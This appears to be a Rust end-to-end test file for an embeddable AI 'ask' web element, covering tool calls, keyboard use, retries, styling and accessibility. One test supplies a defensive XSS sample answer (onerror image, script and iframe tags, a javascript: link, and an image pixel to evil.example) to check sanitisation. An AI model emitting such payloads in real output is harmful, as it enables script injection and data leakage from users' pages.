//! The element `<mcp-web-ask>` of the SDK in a page of another origin, with a mock provider.

mod ask_page;

use e2e::{BreakMode, Browser, ColorScheme, ExchangeOutcome, NodeProject, Script, Turn};
use serde_json::json;

use self::ask_page::AskPage;
use crate::{vite_preview, vite_url};

/// Calls the tool of the page, and answers in markdown.
fn pancakes() -> Script {
    Script::new([
        Turn::from_text("**Milk** is missing.").call("add_item", json!({ "text": "Milk" })),
        Turn::from_text("| you need | you have |\n|---|---|\n| milk | ")
            .text("yes |\n\n- [x] flour\n- [x] milk"),
        Turn::from_text("That is all."),
    ])
}

#[tokio::test]
async fn a_question_is_answered_with_a_tool_of_the_page_and_followed_up() {
    let page = AskPage::open(pancakes()).await;
    page.ask("What is missing for pancakes?").await;
    page.wait_for_state("complete").await;
    page.wait_for("document.querySelector('#list').innerText.includes('Milk')")
        .await;
    page.wait_for("box.querySelector('.text strong').textContent === 'Milk'")
        .await;
    page.wait_for("box.querySelector('.call[data-state=done] code').textContent === 'add_item'")
        .await;
    page.wait_for("box.querySelectorAll('.text td').length === 2")
        .await;
    page.ask("Is that all?").await;
    page.wait_for("box.querySelectorAll('.turn[data-state=complete]').length === 2")
        .await;

    let follow_up = page.provider.wait_for_request(2).await.body.to_string();
    for earlier in ["What is missing for pancakes?", "Milk** is missing."] {
        assert!(follow_up.contains(earlier), "{earlier} in {follow_up}");
    }
    assert!(follow_up.contains("Flour"), "the context of the page");
    for (name, scheme, width, height) in [
        ("ask-element-light", ColorScheme::Light, 900, 800),
        ("ask-element-dark", ColorScheme::Dark, 900, 800),
        ("ask-element-phone", ColorScheme::Light, 360, 740),
    ] {
        page.browser.emulate(scheme, width, height).await;
        page.wait_for("document.documentElement.scrollWidth <= innerWidth")
            .await;
        page.browser.screenshot(name).await;
    }
    page.assert_no_errors().await;
}

#[tokio::test]
async fn the_keyboard_is_enough() {
    let begin = || {
        Turn::from_text("I begin ")
            .pause_after(1)
            .text("and would go on.")
    };
    let page = AskPage::open(Script::new([begin(), begin()])).await;
    let has_begun = "[...box.querySelectorAll('.text')].at(-1)?.innerText === 'I begin'";
    page.press_key("Tab").await;
    page.wait_for("box.activeElement.localName === 'textarea'")
        .await;
    page.type_text("First line").await;
    page.press_shifted_key("Enter").await;
    page.type_text("second line").await;
    page.press_key("Tab").await;
    page.wait_for_focus("Ask AI").await;
    page.press_key("Enter").await;
    page.wait_for(has_begun).await;
    let prompt = page.provider.wait_for_request(0).await.body.to_string();
    assert!(prompt.contains("First line\\nsecond line"), "{prompt}");

    page.press_key("Escape").await;
    page.wait_for_state("cancelled").await;
    let exchange = page.provider.wait_for_end(0).await;
    assert_eq!(exchange.outcome(), Some(ExchangeOutcome::ClosedByClient));
    page.wait_for("box.activeElement.localName === 'textarea'")
        .await;

    // Back to the buttons of the answer.
    page.press_shifted_key("Tab").await;
    page.press_shifted_key("Tab").await;
    page.wait_for_focus("Try again").await;
    page.press_key("Enter").await;
    page.wait_for(has_begun).await;
    page.wait_for("box.activeElement.localName === 'textarea'")
        .await;
    page.press_key("Tab").await;
    page.wait_for_focus("Stop").await;
    page.press_key("Enter").await;
    page.wait_for_state("cancelled").await;
    page.provider.wait_for_end(1).await;
    page.wait_for("box.activeElement.localName === 'textarea'")
        .await;
    page.assert_no_errors().await;
}

#[tokio::test]
async fn a_failure_can_be_retried() {
    let script = Script::new([
        Turn::from_call("add_item", json!({ "text": "Milk" })),
        Turn::from_text("All is ")
            .text("well.")
            .broken(1, BreakMode::Error),
        Turn::from_text("All is well, indeed."),
        Turn::from_text("Quite sure."),
    ]);
    let page = AskPage::open(script).await;
    page.ask("How is it?").await;
    page.wait_for_state("failed").await;
    page.wait_for("box.querySelector('.failure').textContent.startsWith('The answer broke off.')")
        .await;
    page.wait_for("box.querySelector('.text').innerText === 'All is'")
        .await;
    page.browser.emulate(ColorScheme::Light, 900, 700).await;
    page.browser.screenshot("ask-element-failed").await;

    page.press_shifted_key("Tab").await;
    page.press_shifted_key("Tab").await;
    page.wait_for_focus("Try again").await;
    page.press_key("Enter").await;
    page.wait_for_state("complete").await;
    page.wait_for("box.querySelector('.turn').innerText.includes('All is well, indeed.')")
        .await;
    page.wait_for("!box.querySelector('.failure')").await;
    page.ask("Are you sure?").await;
    page.wait_for("box.querySelectorAll('.turn[data-state=complete]').length === 2")
        .await;
    let requests = page.provider.exchanges();
    let follow_up = requests.last().unwrap().body.to_string();
    assert!(follow_up.contains("All is well, indeed."), "{follow_up}");
    page.assert_no_errors().await;
}

#[tokio::test]
async fn custom_properties_of_the_page_change_the_looks() {
    let page = AskPage::open(Turn::from_text("[A link](https://example.com)")).await;
    page.ask("Style").await;
    page.wait_for_state("complete").await;
    page.wait_for("box.querySelector('.text a')").await;
    let set = "const { style } = document.documentElement;
        style.setProperty('--mcp-web-accent', 'rgb(128, 0, 64)');
        style.setProperty('--mcp-web-accent-text', 'rgb(255, 240, 200)');
        style.setProperty('--mcp-web-background', 'rgb(1, 2, 3)');
        style.setProperty('--mcp-web-text', 'rgb(250, 250, 240)');
        style.setProperty('--mcp-web-radius', '0px');
        style.setProperty('--mcp-web-font', '20px monospace');
        style.setProperty('--mcp-web-ask-max-height', '100px');";
    page.browser.eval(set, json!(null)).await;
    for (selector, property, value) in [
        (".send", "backgroundColor", "rgb(128, 0, 64)"),
        (".send", "color", "rgb(255, 240, 200)"),
        (".text a", "color", "rgb(128, 0, 64)"),
        (".frame", "backgroundColor", "rgb(1, 2, 3)"),
        (".frame", "borderTopLeftRadius", "0px"),
        (".text", "color", "rgb(250, 250, 240)"),
        (".input", "fontSize", "20px"),
        (".conversation", "maxHeight", "100px"),
    ] {
        let computed = format!("getComputedStyle(box.querySelector('{selector}')).{property}");
        page.wait_for(&format!(
            "{computed} === '{value}' || Promise.reject({computed})"
        ))
        .await;
    }
    page.assert_no_errors().await;
}

/// The properties that are set in templates reach the element, which is what an app with a
/// bundler imports.
#[tokio::test]
async fn react_vue_and_svelte_set_its_properties() {
    let project = NodeProject::copy_of("ask-frameworks");
    project.install_packages_and_sdk();
    let mut server = vite_preview(&project).await;
    let browser = Browser::open().await;
    browser.goto(&vite_url(&mut server).await).await;
    for framework in ["react", "vue", "svelte"] {
        let element = format!("document.querySelector('#{framework} mcp-web-ask')");
        let suggestion = format!("{element}.shadowRoot.querySelector('.suggestion')?.textContent");
        browser
            .wait_for(&format!("{suggestion} === 'Asked in {framework}'"))
            .await;
        let properties = format!(
            "return ['context', 'options', 'answer', 'strings', 'mcpWeb']
               .filter((name) => {element}[name]?.framework !== '{framework}')"
        );
        assert_eq!(
            browser.eval(&properties, json!(null)).await,
            json!([]),
            "what {framework} does not set"
        );
    }
}

#[tokio::test]
async fn a_reloaded_page_shows_its_conversation_and_takes_up_its_question() {
    let script = Script::new([
        Turn::from_text("The first answer."),
        Turn::from_text("The second ")
            .pause_after(1)
            .text("answer."),
    ]);
    let page = AskPage::open(script).await;
    page.ask("One").await;
    page.wait_for_state("complete").await;
    page.ask("Two").await;
    page.wait_for("box.querySelectorAll('.text').length === 2")
        .await;
    page.browser.reload().await;
    page.wait_for("box.querySelectorAll('.turn').length === 2")
        .await;
    page.wait_for("box.querySelector('.text').innerText === 'The first answer.'")
        .await;
    page.wait_for_state("running").await;
    page.provider.resume_one();
    page.wait_for_state("complete").await;
    page.wait_for("[...box.querySelectorAll('.text')].at(-1).innerText === 'The second answer.'")
        .await;
    page.assert_no_errors().await;
}

#[tokio::test]
async fn a_call_is_made_when_the_person_allows_it() {
    let script = Script::new([
        Turn::from_call("add_item", json!({ "text": "Gold" })),
        Turn::from_text("Done."),
    ]);
    let page = AskPage::open(script).await;
    let options = "document.querySelector('mcp-web-ask').options = { approve: ['add_item'] }";
    page.browser.eval(options, json!(null)).await;
    page.ask("Buy gold").await;
    page.wait_for("box.querySelector('.call').innerText.includes('May the AI use add_item?')")
        .await;
    page.browser.emulate(ColorScheme::Light, 900, 700).await;
    page.browser.screenshot("ask-element-approval").await;
    let list = "return document.querySelector('#list').innerText";
    assert_eq!(page.browser.eval(list, json!(null)).await, "Flour");
    page.press_button("Allow").await;
    page.wait_for_state("complete").await;
    assert_eq!(page.browser.eval(list, json!(null)).await, "Flour\nGold");
    page.assert_no_errors().await;
}

#[tokio::test]
async fn an_answer_cannot_run_scripts_or_load_anything_from_elsewhere() {
    let answer = "<img src=x onerror=attacked=1> <script>attacked=1</script> \
        [click](javascript:attacked=1) ![pixel](https://evil.example/?flour) \
        <iframe srcdoc='<script>parent.attacked=1</script>'></iframe>";
    let page = AskPage::open(Turn::from_text(answer)).await;
    page.ask("?").await;
    page.wait_for_state("complete").await;
    page.wait_for("box.querySelector('.text a')").await;
    let harmful = "return [...document.querySelector('mcp-web-ask').shadowRoot
        .querySelectorAll('.text :is(img, script, iframe, [onerror], [href^=javascript])')].length";
    assert_eq!(page.browser.eval(harmful, json!(null)).await, 0);
    page.wait_for("box.querySelector('.text').innerText.includes('Picture: pixel')")
        .await;
    let loaded = "return [window.attacked,
        performance.getEntriesByType('resource').some(({ name }) => name.includes('evil'))]";
    assert_eq!(
        page.browser.eval(loaded, json!(null)).await,
        json!([null, false])
    );
    page.assert_no_errors().await;
}

#[tokio::test]
async fn assistive_technology_gets_roles_names_and_states() {
    let page = AskPage::open(pancakes()).await;
    let direction = "document.documentElement.dir = 'rtl'";
    page.browser.eval(direction, json!(null)).await;
    page.press_button("What is missing for pancakes?").await;
    page.wait_for_state("complete").await;
    let tree = page.accessibility_tree().await;
    for expected in [
        ("region", "Ask AI"),
        ("log", "Conversation"),
        ("article", "What is missing for pancakes?"),
        ("textbox", "Ask AI"),
        ("button", "Ask AI"),
        ("button", "New conversation"),
        ("button", "Copy"),
        ("group", "Suggestions"),
        ("button", "What is missing for pancakes?"),
        ("table", ""),
    ] {
        let expected = (expected.0.to_owned(), expected.1.to_owned());
        assert!(tree.contains(&expected), "{expected:?} in {tree:?}");
    }
    let is_unnamed = |(role, name): &&(String, String)| role == "button" && name.trim().is_empty();
    assert_eq!(tree.iter().find(is_unnamed), None);
    page.browser.emulate(ColorScheme::Light, 700, 800).await;
    page.browser.screenshot("ask-element-rtl").await;
    let colors = json!({ "features": [{ "name": "forced-colors", "value": "active" }, { "name": "prefers-color-scheme", "value": "dark" }, { "name": "prefers-reduced-motion", "value": "reduce" }] });
    page.browser
        .devtools("Emulation.setEmulatedMedia", colors)
        .await;
    page.browser.screenshot("ask-element-forced-colors").await;
    page.assert_no_errors().await;
}
